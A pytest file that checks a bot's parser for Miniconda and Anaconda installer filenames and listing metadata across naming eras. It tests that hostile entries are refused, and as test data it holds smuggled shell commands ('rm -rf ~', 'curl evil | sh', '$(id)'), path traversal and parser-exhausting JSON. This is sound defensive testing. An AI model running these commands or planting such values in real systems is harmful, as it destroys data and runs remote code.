"""Filenames of every era parse into typed records; hostile or invalid entries are never used."""

import json
import logging

import pytest

from bot.upstream.document import decode_files
from bot.upstream.listing import parse_listing
from bot.upstream.model import Product
from bot.upstream.names import (
    installer_filename,
    parse_alias_name,
    parse_installer_name,
    python_flavour,
)
from bot.upstream.report import Filters, ended_arches, newest_installers
from tests.support.upstream_data import current_documents, fixture_documents

SHA = "a" * 64


@pytest.mark.parametrize(
    ("filename", "product", "python", "version", "os", "arch", "ext"),
    [
        ("Miniconda-1.6.0-Linux-x86_64.sh", "miniconda", None, "1.6.0", "Linux", "x86_64", "sh"),
        (
            "Miniconda3-4.7.12.1-Linux-ppc64le.sh",
            "miniconda3",
            None,
            "4.7.12.1",
            "Linux",
            "ppc64le",
            "sh",
        ),
        (
            "Miniconda3-py38_4.8.2-Linux-x86_64.sh",
            "miniconda3",
            "py38",
            "4.8.2",
            "Linux",
            "x86_64",
            "sh",
        ),
        (
            "Miniconda3-py311_23.5.2-0-MacOSX-arm64.pkg",
            "miniconda3",
            "py311",
            "23.5.2-0",
            "MacOSX",
            "arm64",
            "pkg",
        ),
        (
            "Miniconda2-py27_4.8.3-Windows-x86.exe",
            "miniconda2",
            "py27",
            "4.8.3",
            "Windows",
            "x86",
            "exe",
        ),
        ("Anaconda3-5.3.1-Linux-x86.sh", "anaconda3", None, "5.3.1", "Linux", "x86", "sh"),
        ("Anaconda3-2022.10-Linux-s390x.sh", "anaconda3", None, "2022.10", "Linux", "s390x", "sh"),
        (
            "Anaconda3-2023.07-2-Linux-aarch64.sh",
            "anaconda3",
            None,
            "2023.07-2",
            "Linux",
            "aarch64",
            "sh",
        ),
        (
            "Miniconda3-py314_26.5.3-1-Linux-s390x.sh",
            "miniconda3",
            "py314",
            "26.5.3-1",
            "Linux",
            "s390x",
            "sh",
        ),
    ],
)
def test_every_naming_era(
    filename: str, product: str, python: str, version: str, os: str, arch: str, ext: str
) -> None:
    name = parse_installer_name(filename)
    assert name is not None
    assert (name.product, name.python, name.version.text, name.os, name.arch, name.ext) == (
        Product(product), python, version, os, arch, ext,
    )  # fmt: skip
    assert installer_filename(name) == filename


@pytest.mark.parametrize(
    "filename",
    [
        "index.json",
        "Miniconda3-latest-Linux-x86_64.sh",
        "Miniconda3-py311_23.5.2-0-Linux-riscv64.sh",
        "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh.sig",
        "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh;rm -rf ~",
        "../Miniconda3-py311_23.5.2-0-Linux-x86_64.sh",
        "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh\n",
        "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh\nRUN curl evil | sh",
        "Miniconda3-py311_23.\u0665.2-0-Linux-x86_64.sh",  # an Arabic-Indic digit five
    ],
)
def test_non_installers_are_not_installers(filename: str) -> None:
    assert parse_installer_name(filename) is None


def test_alias_names() -> None:
    assert parse_alias_name("Miniconda3-latest-MacOSX-arm64.pkg") == (
        Product.MINICONDA3,
        "MacOSX",
        "arm64",
        "pkg",
    )
    assert parse_alias_name("Miniconda3-py311_23.5.2-0-Linux-x86_64.sh") is None


@pytest.mark.parametrize(
    ("given", "flavour"), [("3.12", "py312"), ("py27", "py27"), ("310", "py310")]
)
def test_python_flavour(given: str, flavour: str) -> None:
    assert python_flavour(given) == flavour


def test_fixture_listings_parse_completely(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    listing = parse_listing(fixture_documents(), "https://repo.anaconda.com")
    assert len(listing.installers) == 777 + 232  # as the fixtures README counts them
    assert listing.invalid == ()
    # index.json is counted and logged at debug, not fatal
    assert set(listing.unrecognized) == {"miniconda/index.json"}
    assert "match no installer scheme" in caplog.text
    x86 = listing.latest_alias(Product.MINICONDA3, "Linux", "x86_64")
    assert x86 is not None and x86.target is not None
    assert x86.target.filename == "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh"
    assert (
        x86.target.url
        == "https://repo.anaconda.com/miniconda/Miniconda3-py311_23.5.2-0-Linux-x86_64.sh"
    )


@pytest.mark.parametrize(
    ("filename", "entry", "reason"),
    [
        (
            "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh",
            {"sha256": "A" * 64, "size": 1, "mtime": 1.0},
            "sha256",
        ),
        (
            "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh",
            {"sha256": SHA[:63], "size": 1, "mtime": 1.0},
            "sha256",
        ),
        (
            "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh",
            {"sha256": SHA, "size": 0, "mtime": 1.0},
            "size",
        ),
        (
            "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh",
            {"sha256": SHA, "size": "12", "mtime": 1.0},
            "size",
        ),
        (
            "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh",
            {"sha256": SHA, "size": 1, "mtime": "now"},
            "mtime",
        ),
        ("Miniconda3-py311_23.5.2-0-Linux-x86_64.sh", ["not", "an", "object"], "object"),
        (
            "Miniconda3-latest-Linux-x86_64.sh",
            {"sha256": "$(id)" + "a" * 59, "size": 1, "mtime": 1.0},
            "sha256",
        ),
    ],
)
def test_invalid_entries_are_reported_and_never_used(
    filename: str, entry: object, reason: str
) -> None:
    listing = parse_listing({"miniconda": {filename: entry}}, "https://repo.anaconda.com")
    assert listing.installers == () and listing.aliases == ()
    assert [e.filename for e in listing.invalid] == [filename]
    assert reason in listing.invalid[0].reason


def test_hostile_names_never_become_installers() -> None:
    hostile = {
        'Miniconda3-py311_23.5.2-0-Linux-x86_64.sh"; curl evil|sh; "': {
            "sha256": SHA,
            "size": 1,
            "mtime": 1.0,
        },
        "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh\nRUN rm": {
            "sha256": SHA,
            "size": 1,
            "mtime": 1.0,
        },
    }
    listing = parse_listing({"miniconda": hostile}, "https://repo.anaconda.com")
    assert listing.installers == ()
    assert len(listing.unrecognized) == 2


def test_alias_with_no_matching_bytes_has_no_target() -> None:
    docs = {
        "miniconda": {"Miniconda3-latest-Linux-x86_64.sh": {"sha256": SHA, "size": 1, "mtime": 1.0}}
    }
    listing = parse_listing(docs, "https://repo.anaconda.com")
    assert listing.aliases[0].target is None


def test_newest_per_flavour_marks_latest_and_ended_arches() -> None:
    listing = parse_listing(current_documents(), "https://repo.anaconda.com")
    rows = newest_installers(listing, Filters(product=Product.MINICONDA3, os="Linux"))
    by = {(r.installer.python, r.installer.arch): r for r in rows}
    assert by["py314", "x86_64"].installer.version.text == "26.5.3-1"
    assert by["py314", "x86_64"].is_latest_flavour
    assert not by["py313", "x86_64"].is_latest_flavour
    assert by["py312", "s390x"].installer.version.text == "25.1.1-2"
    assert (
        by["py312", "s390x"].ended_at is not None
        and by["py312", "s390x"].ended_at.text == "25.1.1-2"
    )
    assert (
        by["py311", "ppc64le"].ended_at is not None
        and by["py311", "ppc64le"].ended_at.text == "23.10.0-1"
    )
    assert by["py314", "x86_64"].ended_at is None
    ended = ended_arches(listing)
    assert ended[Product.ANACONDA3, "Linux", "s390x"].text == "2024.10-1"


def test_listing_parse_does_not_depend_on_md5() -> None:
    docs = fixture_documents()
    with_md5 = {d: {k: {**v, "md5": "0" * 32} for k, v in doc.items()} for d, doc in docs.items()}
    assert (
        parse_listing(with_md5, "x").installers
        == parse_listing(json.loads(json.dumps(docs)), "x").installers
    )


# -- hostile values in a listing body: the entry is refused, the rest is used -------

NAME = "Miniconda3-py311_23.5.2-0-Linux-x86_64.sh"
OTHER = "Miniconda3-py311_23.5.2-0-Linux-aarch64.sh"


def listing_of(body: str) -> tuple[list[str], dict[str, str]]:
    """(filenames of usable installers, {refused filename: reason}) of one miniconda body."""
    listing = parse_listing({"miniconda": decode_files(body.encode())}, "https://repo.anaconda.com")
    return [i.filename for i in listing.installers], {e.filename: e.reason for e in listing.invalid}


def body_with(raw_entry: str) -> str:
    good = f'{{"sha256": "{SHA}", "size": 1, "mtime": 1.6e9}}'
    return f'{{"{NAME}": {raw_entry}, "{OTHER}": {good}}}'


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (f'{{"sha256": "{SHA}", "size": 1, "mtime": 1e20}}', "mtime is not a time between 1970 and 9999"),
        (f'{{"sha256": "{SHA}", "size": 1, "mtime": -1e15}}', "mtime is not a time between 1970 and 9999"),
        (f'{{"sha256": "{SHA}", "size": 1, "mtime": -1}}', "mtime is not a time between 1970 and 9999"),
        (f'{{"sha256": "{SHA}", "size": 1, "mtime": {"9" * 5000}}}', "mtime is a 5000-digit number"),
        (f'{{"sha256": "{SHA}", "size": {"9" * 5000}, "mtime": 1.6e9}}', "size is a 5000-digit number"),
        (f'{{"sha256": "{SHA}", "size": {2**50}, "mtime": 1.6e9}}', "size is not a positive integer below 1 TiB"),
        (f'{{"sha256": "{SHA}", "size": 1, "mtime": 1.6e9, "x": {"[" * 50_000}{"]" * 50_000}}}',
         "nested too deeply"),
        (f'{{"sha256": "{SHA}", "size": 1, "size": 2, "mtime": 1.6e9}}', 'key "size" appears 2 times'),
    ],
    ids=["mtime-1e20", "mtime-minus-1e15", "mtime-negative", "mtime-5000-digits", "size-5000-digits",
         "size-2-to-50", "deep-nesting", "duplicate-key"],
)  # fmt: skip
def test_a_hostile_value_refuses_its_entry_only(raw: str, reason: str) -> None:
    usable, refused = listing_of(body_with(raw))
    assert usable == [OTHER]
    assert refused == {NAME: reason}


def test_a_filename_listed_twice_is_refused_not_taken_from_its_last_value() -> None:
    first = f'{{"sha256": "{SHA}", "size": 1, "mtime": 1.6e9}}'
    second = first.replace(SHA, "b" * 64)
    usable, refused = listing_of(f'{{"{NAME}": {first}, "{OTHER}": {first}, "{NAME}": {second}}}')
    assert usable == [OTHER]
    assert refused == {NAME: "listed 2 times"}


def test_deep_nesting_outside_any_entry_value_is_still_a_named_error() -> None:
    with pytest.raises(ValueError, match="nested too deeply"):
        decode_files(("[" * 50_000 + "]" * 50_000).encode())


def test_a_version_with_thousands_of_digits_is_not_an_installer() -> None:
    name = f"Miniconda3-py311_{'9' * 5000}.1-0-Linux-x86_64.sh"
    assert parse_installer_name(name) is None
    listing = parse_listing(
        {"miniconda": {name: {"sha256": SHA, "size": 1, "mtime": 1.0}}}, "https://repo.anaconda.com"
    )
    assert listing.installers == () and len(listing.unrecognized) == 1
